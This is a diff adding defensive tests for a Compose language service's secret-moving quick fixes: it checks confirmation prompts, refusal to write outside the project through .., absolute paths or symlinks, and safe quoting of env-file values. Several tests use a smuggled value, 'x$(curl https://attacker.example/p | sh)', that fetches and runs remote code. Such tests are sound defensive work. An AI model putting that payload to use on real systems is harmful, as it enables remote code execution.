@@ -1,9 +1,12 @@
 import * as assert from 'node:assert/strict';
+import { execFileSync } from 'node:child_process';
+import { parse } from 'yaml';
 import * as fs from 'node:fs';
 import * as os from 'node:os';
 import * as path from 'node:path';
 import { ComposeService } from '../../src/language/compose/composeService';
 import { fsComposeHost } from '../../src/language/compose/fsHost';
+import { dotEnvValue, parseDotEnv } from '../../src/language/compose/dotEnv';
 import { applyEdits, type QuickFix, type TextEdit } from '../../src/language/dockerfile/quickFixes';
 
 const lines = (...l: string[]) => l.join('\n') + '\n';
@@ -65,6 +68,92 @@ describe('compose quick fixes that touch the project', () => {
     assert.equal(fs.readFileSync(path.join(dir, 'db.env'), 'utf8'), 'POSTGRES_USER=app\nPOSTGRES_PASSWORD=12345\nAPI_TOKEN=abc\n');
     assert.equal(fs.existsSync(path.join(dir, '.gitignore')), false, 'no .gitignore is created where there was none');
     assert.deepEqual(diagnose(), []);
+  });
+
+  it('asks before appending to an env file that exists', () => {
+    fs.writeFileSync(file, lines('services:', '  db:', '    image: postgres:16', '    env_file: db.env', '    environment:', '      POSTGRES_PASSWORD: 12345'));
+    fs.writeFileSync(path.join(dir, 'db.env'), 'POSTGRES_USER=app\n');
+    const fix = firstFix('CS011');
+    assert.equal(fix.confirm?.message, 'Append "POSTGRES_PASSWORD" to db.env?');
+    assert.equal(fix.confirm?.button, 'Append');
+    fs.rmSync(path.join(dir, 'db.env'));
+    fs.writeFileSync(file, lines('services:', '  db:', '    image: postgres:16', '    environment:', '      POSTGRES_PASSWORD: 12345'));
+    assert.equal(firstFix('CS011').confirm, undefined, 'creating a new file needs no question');
+  });
+
+  describe('writes nothing outside the project', () => {
+    let outside: string;
+    beforeEach(() => {
+      outside = fs.mkdtempSync(path.join(os.tmpdir(), 'dockside-outside-'));
+      fs.writeFileSync(path.join(outside, '.bashrc'), '# the user shell\n');
+    });
+    afterEach(() => fs.rmSync(outside, { recursive: true, force: true }));
+
+    const hostile = (envFile: () => string) => () => {
+      fs.writeFileSync(file, lines('services:', '  app:', '    image: busybox:1', `    env_file: ${envFile()}`, '    environment:', '      API_TOKEN: "x$(curl https://attacker.example/p | sh)"'));
+      const text = fs.readFileSync(file, 'utf8');
+      const d = diagnose().find((x) => x.code === 'CS011');
+      assert.ok(d, 'the secret is still reported');
+      const fixes = service.quickFixes({ uri: file, version: 0, text, path: file, root: dir }, d);
+      assert.deepEqual(fixes.map((f) => f.title), ['Ignore CS011 here', 'Ignore CS011 in this file'], 'no fix that writes a file');
+      assert.equal(fs.readFileSync(path.join(outside, '.bashrc'), 'utf8'), '# the user shell\n');
+    };
+    it('refuses an env_file reached through ..', hostile(() => path.relative(dir, path.join(outside, '.bashrc'))));
+    it('refuses an absolute env_file path', hostile(() => path.join(outside, '.bashrc')));
+    it('refuses an env_file that is a symbolic link pointing out', hostile(() => {
+      fs.symlinkSync(path.join(outside, '.bashrc'), path.join(dir, 'app.env'));
+      return 'app.env';
+    }));
+    it('refuses an env_file inside a linked folder that points out', hostile(() => {
+      fs.symlinkSync(outside, path.join(dir, 'conf'));
+      return 'conf/.bashrc';
+    }));
+    it('refuses to add to a .gitignore that links out', () => {
+      fs.symlinkSync(path.join(outside, '.bashrc'), path.join(dir, '.gitignore'));
+      fs.writeFileSync(file, lines('services:', '  app:', '    image: busybox:1', '    environment:', '      API_TOKEN: abc'));
+      const fix = firstFix('CS011');
+      assert.deepEqual(fix.otherEdits, [], 'the .gitignore outside is left alone');
+      assert.equal(fix.createFile?.path, path.join(dir, 'app.env'));
+    });
+    it('allows an env file elsewhere in the same workspace folder', () => {
+      const sub = path.join(dir, 'deploy');
+      fs.mkdirSync(sub);
+      fs.mkdirSync(path.join(dir, 'config'));
+      const nested = path.join(sub, 'compose.yaml');
+      fs.writeFileSync(nested, lines('services:', '  app:', '    image: busybox:1', '    env_file: ../config/app.env', '    environment:', '      API_TOKEN: abc'));
+      const text = fs.readFileSync(nested, 'utf8');
+      const d = service.diagnose({ uri: nested, version: ++version, text, path: nested }).find((x) => x.code === 'CS011')!;
+      const inWorkspace = service.quickFixes({ uri: nested, version: 0, text, path: nested, root: dir }, d)[0];
+      assert.equal(inWorkspace.createFile?.path, path.join(dir, 'config', 'app.env'));
+      const noWorkspace = service.quickFixes({ uri: nested, version: 0, text, path: nested }, d)[0];
+      assert.ok(noWorkspace.title.startsWith('Ignore'), 'without a workspace, only the compose file\'s own folder is allowed');
+    });
+  });
+
+  it('quotes values the way Compose reads them back', () => {
+    const values = ['plain-value_1.2:3@host/x', 'x$(curl https://attacker.example/p | sh)', 'two words', 'p#ss', "it's $HOME \"q\" back\\slash", 'ends with \\', ' lead and trail ', '$VAR'];
+    for (const v of values) assert.equal(parseDotEnv(`K=${dotEnvValue(v)}\n`).get('K'), v, v);
+    assert.equal(dotEnvValue('plain-value_1.2:3@host/x'), 'plain-value_1.2:3@host/x');
+    assert.equal(dotEnvValue('x$(curl https://attacker.example/p | sh)'), "'x$(curl https://attacker.example/p | sh)'");
+  });
+
+  it('writes env files that a real Compose reads back unchanged (docker-compose config)', function () {
+    try {
+      execFileSync('docker-compose', ['version'], { stdio: 'ignore' });
+    } catch {
+      if (process.env.CI) throw new Error('docker-compose is not installed in CI (.ci/run installs it)');
+      console.warn('    SKIPPED: docker-compose is not installed (apt-get install -y docker-compose)');
+      return this.skip();
+    }
+    // docker-compose 1.29 keeps the backslash of \$ inside double quotes where Compose v2 drops it, so the one
+    // value that needs double quotes and has a $ is left to the parser test above (which follows v2).
+    const values = ['plain-value_1.2:3@host/x', 'x$(curl https://attacker.example/p | sh)', 'two words', 'p#ss', 'a #comment', "it's \"q\" back\\slash", 'ends with \\', ' lead and trail ', '$VAR'];
+    fs.writeFileSync(path.join(dir, 'app.env'), values.map((v, i) => `V${i}=${dotEnvValue(v)}\n`).join(''));
+    fs.writeFileSync(file, lines('services:', '  app:', '    image: busybox:1', '    env_file: app.env'));
+    const out = execFileSync('docker-compose', ['-f', file, 'config'], { cwd: dir, env: { PATH: process.env.PATH, HOME: os.tmpdir() } }).toString();
+    const environment = (parse(out) as { services: { app: { environment: Record<string, string> } } }).services.app.environment;
+    // `config` prints a literal $ doubled, ready to be read again as a compose file.
+    assert.deepEqual(values.map((_, i) => environment[`V${i}`]?.replace(/\$\$/g, '$')), values);
   });
 
   it('fixes a key typo to the suggested key', () => {
